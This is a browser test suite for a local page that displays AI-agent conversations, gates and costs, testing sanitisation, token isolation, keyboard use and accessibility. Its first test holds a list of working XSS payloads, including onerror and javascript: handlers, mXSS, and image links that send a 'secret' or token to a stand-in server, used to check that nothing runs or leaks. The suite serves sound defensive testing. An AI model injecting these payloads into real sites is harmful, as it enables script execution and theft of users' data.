import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import test, { after, before, type TestContext } from "node:test";
import type { Browser, BrowserContextOptions, Page } from "playwright-core";
import { findChromium, launch } from "../support/browser.ts";
import { type PageServer, startPage } from "../support/page/page-server.ts";
import { openScene, play, type Scene } from "../support/page/scene.ts";
import { until } from "../support/until.ts";

const found = findChromium();
const skip = "missing" in found ? found.missing : false;
let browser: Browser;

before(async () => {
  if (!("missing" in found)) browser = await launch(found.path);
});

after(() => browser?.close());

interface Opened extends Scene {
  page: PageServer;
}

async function open(t: TestContext): Promise<Opened> {
  const scene = openScene();
  t.after(() => scene.sandbox.remove());
  const page = await startPage({ env: scene.env, cwd: scene.workspace });
  t.after(() => page.running.kill("SIGINT"));
  return { ...scene, page };
}

interface Tab {
  tab: Page;
  /** What the console said, and what was asked of other servers. */
  noise: string[];
  /** What was asked of our server, in order. */
  asked: string[];
}

async function openTab({ page }: Opened, options: BrowserContextOptions = {}): Promise<Tab> {
  const context = await browser.newContext(options);
  const tab = await context.newPage();
  const noise: string[] = [];
  const asked: string[] = [];
  tab.on("console", (message) => noise.push(`console: ${message.text()}`));
  tab.on("pageerror", (error) => noise.push(`error: ${error.message}`));
  tab.on("dialog", (dialog) => {
    noise.push(`dialog: ${dialog.message()}`);
    dialog.dismiss();
  });
  tab.on("popup", (popup) => noise.push(`popup: ${popup.url()}`));
  tab.on("request", (request) => {
    if (request.url().startsWith(page.url)) asked.push(request.url().slice(page.url.length));
    if (!request.url().startsWith(page.url) && !request.url().startsWith("data:"))
      noise.push(`request: ${request.url()}`);
  });
  await tab.goto(page.address);
  return { tab, noise, asked };
}

const item = (tab: Page, name: string) => tab.locator(".item", { has: tab.getByText(name, { exact: true }) });

test("what an agent writes does nothing and sends nothing, wherever it is shown", { skip }, async (t) => {
  const opened = await open(t);
  const { cli, workspace } = opened;
  const leaks: string[] = [];
  const leak = createServer((request, response) => {
    leaks.push(request.url ?? "");
    response.end();
  });
  await new Promise<void>((resolve) => leak.listen(0, "127.0.0.1", resolve));
  t.after(() => leak.close());
  const away = `http://127.0.0.1:${(leak.address() as { port: number }).port}`;
  const attack = [
    "<script>window.hacked = 1; alert(1)</script>",
    '<img src="x" onerror="window.hacked = 2">',
    '<svg onload="window.hacked = 3"><circle r="9"/></svg>',
    `<iframe src="${away}/frame"></iframe>`,
    `<style>@import url(${away}/style); body { display: none }</style>`,
    `<form action="${away}/form"><button>Approve</button></form>`,
    `<link rel="stylesheet" href="${away}/link"><base href="${away}/">`,
    `<meta http-equiv="refresh" content="0;url=${away}/meta">`,
    `<a href="javascript:window.hacked = 4" onclick="window.hacked = 5" id="main" class="button yes">raw link</a>`,
    "[a link](javascript:window.hacked=6) [another](data:text/html,<script>1</script>) [third](vbscript:x)",
    `[far](${away}/link?token)`,
    `![secret](${away}/leak?secret "title")`,
    `![ref][r]\n\n[r]: ${away}/leak-by-reference`,
    `<video src="${away}/video" poster="${away}/poster" autoplay></video><object data="${away}/object"></object>`,
    '```html\n</code></pre><img src=x onerror="window.hacked = 7">\n```',
    '```"><img src=x onerror="window.hacked=8">\ncode\n```',
    "`</code><img src=x onerror=window.hacked=9>`",
    "| <img src=x onerror=window.hacked=10> | b |\n| --- | --- |\n| <svg/onload=window.hacked=11> | d |",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=12&gt;">',
  ].join("\n\n");
  await cli(["create", "answer", attack], { text: attack });
  await cli(["create", "failure", "Hello."]);
  await cli(["send", "failure", "Fail."], { isError: true, text: attack });
  writeFileSync(join(workspace, "plan.md"), attack);
  await cli(["gate", "attack/gate", "--shows", "plan.md"]);
  await cli(["create", "live", "Hello."]);
  const tool = {
    type: "tool_use",
    id: "toolu_1",
    name: "<img src=x onerror=window.hacked=13>",
    input: { command: attack },
  };
  const said = { type: "text", text: attack };
  const line = (content: object[]) =>
    JSON.stringify({ type: "assistant", message: { role: "assistant", content } });
  await cli(["send", "live", "--detach", attack], {
    waitForFile: "",
    writeRaw: [line([said]), line([tool])],
  });
  await until(async () => (await cli(["status", "--json"])).stdout.includes("onerror"), { what: "the tool" });

  const { tab, noise } = await openTab(opened);
  await tab.getByText("attack/gate").waitFor();
  await tab.locator(".shown", { hasText: "window.hacked = 1" }).waitFor();
  for (const name of ["answer", "failure", "live"]) {
    await item(tab, name).click();
    await tab.getByRole("heading", { name, exact: true }).waitFor();
    await tab.locator(".prompt").first().waitFor();
    if (name === "live") await tab.locator(".tools").waitFor();
    const made = await tab.evaluate(
      () =>
        document.querySelectorAll(
          ".turn :is(script, img, svg, iframe, style, form, link, base, meta, video, object, math, input)",
        ).length,
    );
    assert.equal(made, 0, name);
    const links = await tab
      .locator(".turn a")
      .evaluateAll((all) =>
        all.map((one) => [one.getAttribute("href"), one.getAttribute("rel"), one.textContent]),
      );
    for (const [href, rel, text] of links) {
      if (href === null || href === undefined) continue;
      assert.equal(href, `${away}/link?token`);
      assert.match(rel ?? "", /noreferrer/);
      assert.match(text ?? "", /far \(http/, "where it leads is shown");
    }
    assert.equal(await tab.locator(".turn [onclick], .turn [id='main'], .turn [style]").count(), 0);
  }
  await item(tab, "answer").click();
  await tab.getByText(`[image: secret, ${away}/leak?secret]`).waitFor();
  // A person who clicks where a link was meant to be.
  for (const text of ["a link", "another"]) await tab.getByText(text, { exact: true }).first().click();
  await tab.locator("#search").fill("window.hacked");
  await tab.locator(".hit mark").first().waitFor();
  assert.equal(await tab.locator(".hit :is(script, img, svg, iframe, style, form, a)").count(), 0);
  assert.equal(await tab.evaluate("window.hacked"), undefined);
  assert.deepEqual(leaks, []);
  assert.deepEqual(noise, [], "no console message, dialog, window, or request to anybody else");
});

test("a script that got in all the same could reach nobody and make nothing of text", { skip }, async (t) => {
  const opened = await open(t);
  const { tab } = await openTab(opened);
  const tried = await tab.evaluate(async () => {
    const told: Record<string, string> = {};
    const attempt = async (name: string, work: () => unknown) => {
      told[name] = await Promise.resolve()
        .then(work)
        .then(
          () => "done",
          () => "refused",
        );
    };
    await attempt("innerHTML", () => {
      document.body.insertAdjacentHTML("beforeend", "<img src=x>");
    });
    await attempt("policy", () =>
      (
        window as never as { trustedTypes: { createPolicy(n: string, r: object): void } }
      ).trustedTypes.createPolicy("mine", {}),
    );
    await attempt("fetch", () => fetch("http://127.0.0.1:9/leak", { mode: "no-cors" }));
    await attempt("eval", () => setTimeout("window.hacked = 1" as never));
    await attempt("image", () => {
      const image = new Image();
      return new Promise((resolve, reject) => {
        image.onload = resolve;
        image.onerror = reject;
        image.src = "http://127.0.0.1:9/leak";
      });
    });
    const inline = document.createElement("div");
    document.body.append(inline);
    inline.setAttribute("style", "display: none");
    told.style = getComputedStyle(inline).display;
    return told;
  });
  assert.deepEqual(tried, {
    ...{ innerHTML: "refused", policy: "refused", fetch: "refused", eval: "refused", image: "refused" },
    style: "block",
  });
});

test("the token leaves the address at once, and other tabs, pages and sites do not have it", {
  skip,
}, async (t) => {
  const opened = await open(t);
  const { tab } = await openTab(opened);
  const { page } = opened;
  assert.equal(tab.url(), page.url);
  assert.equal(await tab.evaluate("document.cookie"), "");
  assert.equal(await tab.evaluate("localStorage.length"), 0);
  await tab.reload();
  await tab.getByRole("navigation", { name: "Conversations" }).waitFor();
  const referrers: (string | undefined)[] = [];
  const other = createServer((request, response) => {
    referrers.push(request.headers.referer);
    response.setHeader("content-type", "text/html");
    response.end(`<iframe src="${page.url}"></iframe>`);
  });
  await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
  t.after(() => other.close());
  const away = `http://127.0.0.1:${(other.address() as { port: number }).port}/`;
  // By its own server, on another port of the same address.
  const stranger = await tab.context().newPage();
  await stranger.goto(away);
  const asked = await stranger.evaluate(async (url) => {
    const ask = (init: RequestInit) =>
      fetch(`${url}api/overview`, init).then(
        ({ type }) => type,
        () => "refused",
      );
    return [await ask({}), await ask({ mode: "no-cors", credentials: "include" })];
  }, page.url);
  assert.deepEqual(asked, ["refused", "refused"], "also where the answer would not be read");
  assert.equal(
    stranger.frames().some((frame) => frame.url() === page.url),
    false,
    "in no frame",
  );
  await tab.goto(away);
  // Its own favicon is asked for by itself.
  assert.deepEqual(
    referrers.filter((from) => from !== undefined && from !== away),
    [],
  );
  await tab.goBack();
  assert.equal(tab.url(), page.url);
  const alone = await browser.newContext();
  const bare = await alone.newPage();
  await bare.goto(page.url);
  await bare.getByText("does not have the token").waitFor();
  // The file that a terminal's command opens.
  const byFile = await (await browser.newContext()).newPage();
  await byFile.goto(`file://${page.openFile}`);
  await byFile.waitForURL(page.url);
  await byFile.getByRole("navigation", { name: "Conversations" }).waitFor();
  assert.equal(await byFile.evaluate("document.referrer"), "");
});

/** Counts from now on how often the page has more than one turn with these words. */
async function drawnTwiceOf(tab: Page, words: string): Promise<() => Promise<number>> {
  await tab.evaluate((text) => {
    const count = { drawnTwice: 0 };
    Object.assign(globalThis, { count });
    new MutationObserver(() => {
      const turns = [...document.querySelectorAll(".turn")];
      if (turns.filter((turn) => turn.textContent?.includes(text)).length > 1) count.drawnTwice += 1;
    }).observe(document.body, { childList: true, subtree: true, characterData: true });
  }, words);
  return () => tab.evaluate("count.drawnTwice") as Promise<number>;
}

test("the first screen has what needs a person first; the keys go through it; a question is answered at the page", {
  skip,
}, async (t) => {
  const opened = await open(t);
  await play(opened);
  const { tab, noise, asked } = await openTab(opened);
  const context = tab.context();
  await tab.locator(".gate .shown", { hasText: "Drop the old table" }).waitFor();
  const firstAsked = asked.find((path) => path.startsWith("api/"));
  assert.equal(firstAsked, "api/overview?first=yes", "what the server has read ahead");
  await sound(tab);
  const headings = await tab.locator(".side h2").allInnerTexts();
  assert.deepEqual(
    headings.map((text) => text.replace(/\s*\d+$/, "")),
    ["Waiting for your answer", "Failed", "Unread answers", "Running", "Idle"],
  );
  await tab.keyboard.press("j");
  await tab.keyboard.press("j");
  const focused = () =>
    tab.evaluate(
      () =>
        document.activeElement?.querySelector(".name")?.textContent ?? document.activeElement?.textContent,
    );
  assert.equal(await focused(), "port-charts");
  await tab.keyboard.press("j");
  const unread = await focused();
  assert.ok(["nightly-tests", "plan-currency"].includes(unread ?? ""), unread ?? "");
  await tab.keyboard.press("k");
  await tab.keyboard.press("Enter");
  await tab.getByRole("heading", { name: "port-charts" }).waitFor();
  assert.match(await tab.locator(".turn .notice").innerText(), /529 overloaded/);
  await tab.keyboard.press("Escape");
  await tab.locator(".body.home").waitFor();

  await tab.getByRole("button", { name: "Approve" }).click();
  await tab.locator(".gate").waitFor({ state: "detached" });
  const gate = JSON.parse((await opened.cli(["gate", "currency/plan", "--json"])).stdout);
  assert.deepEqual([gate.state, gate.answered_by.terminal], ["approved", "page"]);

  await item(tab, "fix-queue").click();
  await tab.locator(".tools", { hasText: "npm test -- queue" }).waitFor();
  await sound(tab);
  await tab.getByText("A question is queued.").waitFor();
  const secondQuestion = "Then write down what you changed.";
  const drawnTwice = await drawnTwiceOf(tab, secondQuestion);
  opened.letGo();
  const secondTurn = tab.locator("article.turn", { hasText: secondQuestion });
  await secondTurn.locator(".answer").waitFor();
  assert.equal(await drawnTwice(), 0, "a turn was drawn as one that runs and as one that has ended");

  await item(tab, "docs-api").click();
  const box = tab.getByLabel("Ask docs-api");
  await box.fill("And the limits of the import?");
  await box.press("Control+Enter");
  await tab
    .locator(".turn", { hasText: "You said: And the limits of the import?" })
    .locator(".meta time")
    .waitFor();

  await item(tab, "review-billing-strict").click();
  await tab.getByText("Origin and forks", { exact: true }).click();
  const tree = tab.locator(".tree.root");
  await tree.waitFor();
  assert.match(await tree.innerText(), /review-billing[\s\S]*review-billing-strict[\s\S]*audit-import/);
  await tree.getByRole("button", { name: "audit-import" }).click();
  await tab.getByRole("heading", { name: "audit-import" }).waitFor();
  await tab.goBack();
  await tab.getByRole("heading", { name: "review-billing-strict" }).waitFor();

  await tab.keyboard.press("/");
  await tab.keyboard.type("auditor rule");
  const hit = tab.locator(".hit button", { hasText: "review-billing-strict" });
  await hit.waitFor();
  const marks = await hit.locator("mark").allInnerTexts();
  assert.deepEqual(new Set(marks.map((word) => word.toLowerCase())), new Set(["auditor", "rule"]));
  await hit.click();
  await tab.getByRole("heading", { name: "review-billing-strict" }).waitFor();

  await tab.getByRole("button", { name: "Costs" }).click();
  await tab.locator("canvas").waitFor();
  await tab.getByRole("cell", { name: /review-billing-strict/ }).waitFor();
  assert.deepEqual(noise, []);
  await context.close();

  for (const [width, colorScheme] of [
    [400, "dark"],
    [1280, "light"],
  ] as const)
    await t.test(
      `at ${width} px, ${colorScheme}, nothing is cut off, all has a name, and words stand out`,
      () => look(opened, { colorScheme, viewport: { width, height: 800 } }),
    );
});

test("who has gone to a field stays there, however late a conversation comes", { skip }, async (t) => {
  const opened = await open(t);
  await opened.cli(["create", "slow", "Hello."]);
  const { tab } = await openTab(opened);
  let answer: () => void = () => undefined;
  const asked = new Promise<void>((resolve) => {
    answer = resolve;
  });
  await tab.route("**/api/conversation?*", async (route) => {
    await asked;
    await route.continue();
  });
  await item(tab, "slow").click();
  await tab.getByRole("heading", { name: "slow", exact: true }).waitFor();
  await tab.keyboard.press("/");
  answer();
  await tab.locator(".prompt").first().waitFor();
  // What is done after a drawing is done by then.
  await tab.evaluate("new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)))");
  assert.equal(await tab.evaluate("document.activeElement.id"), "search");
});

test("a question over the budget is asked only when a person says so once more", { skip }, async (t) => {
  const opened = await open(t);
  await opened.cli(["create", "spent", "--budget", "1tok", "Hello."]);
  const { tab } = await openTab(opened);
  await item(tab, "spent").click();
  const box = tab.getByLabel("Ask spent");
  await box.fill("One more.");
  await box.press("Control+Enter");
  const anyway = tab.getByRole("button", { name: "Ask all the same, over the budget" });
  await anyway.waitFor();
  const turns = async () => JSON.parse((await opened.cli(["show", "spent", "--json"])).stdout).turns;
  assert.equal(await turns(), 1, "nothing was asked yet");
  await anyway.click();
  await tab.locator(".turn", { hasText: "You said: One more." }).locator(".meta time").waitFor();
  assert.equal(await turns(), 2);
  await anyway.waitFor({ state: "detached" });
});

async function look(opened: Opened, options: BrowserContextOptions): Promise<void> {
  const { tab } = await openTab(opened, options);
  const places: [name: string, there: string][] = [
    ["review-billing", ".turn pre"],
    ["port-charts", ".turn .notice"],
  ];
  await item(tab, "docs-api").waitFor();
  await sound(tab);
  for (const [name, there] of places) {
    await item(tab, name).click();
    await tab.locator(there).first().waitFor();
    for (const way of ["Continue in a terminal", "Fork it", "Origin and forks"]) {
      await tab.getByText(way, { exact: true }).first().click();
      await sound(tab);
    }
    await tab.keyboard.press("Escape");
  }
  await tab.getByRole("button", { name: "Costs" }).click();
  await tab.locator(".fill:visible").first().waitFor();
  await sound(tab);
}

/** Checks what a person who sees little, or nothing, needs. */
async function sound(tab: Page): Promise<void> {
  const found = await tab.evaluate(() => {
    const problems: string[] = [];
    if (document.documentElement.scrollWidth > innerWidth)
      problems.push(`${document.documentElement.scrollWidth} px wide`);
    const isSeen = (one: Element) => (one as HTMLElement).offsetParent !== null;
    for (const one of document.querySelectorAll("button, input, textarea, select, summary, a[href]")) {
      if (!isSeen(one)) continue;
      const labels = "labels" in one ? [...((one as HTMLInputElement).labels ?? [])] : [];
      const name =
        one.getAttribute("aria-label") ||
        labels.map((label) => label.textContent).join("") ||
        (one.matches("input, textarea, select") ? "" : one.textContent);
      if ((name ?? "").trim() === "") problems.push(`no name: ${one.outerHTML.slice(0, 100)}`);
    }
    const luminance = ([r = 0, g = 0, b = 0]: number[]) => {
      const [red = 0, green = 0, blue = 0] = [r, g, b].map((value) => {
        const part = value / 255;
        return part <= 0.03928 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4;
      });
      return 0.2126 * red + 0.7152 * green + 0.0722 * blue;
    };
    const partsOf = (color: string) => (color.match(/[\d.]+/g) ?? []).map(Number);
    const groundOf = (one: Element | null): number[] => {
      for (let at = one; at !== null; at = at.parentElement) {
        const parts = partsOf(getComputedStyle(at).backgroundColor);
        if (parts.length === 3 || parts[3] === 1) return parts;
      }
      return [255, 255, 255];
    };
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node !== null; node = walker.nextNode()) {
      const parent = node.parentElement;
      if (
        parent === null ||
        (node.textContent ?? "").trim() === "" ||
        !isSeen(parent) ||
        parent.closest(":disabled, select, .hidden-words, .skip")
      )
        continue;
      const [text, ground] = [
        luminance(partsOf(getComputedStyle(parent).color)),
        luminance(groundOf(parent)),
      ];
      const contrast = (Math.max(text, ground) + 0.05) / (Math.min(text, ground) + 0.05);
      if (contrast < 4.5) problems.push(`contrast ${contrast.toFixed(1)}: ${node.textContent}`);
    }
    return problems;
  });
  assert.deepEqual(found, []);
}
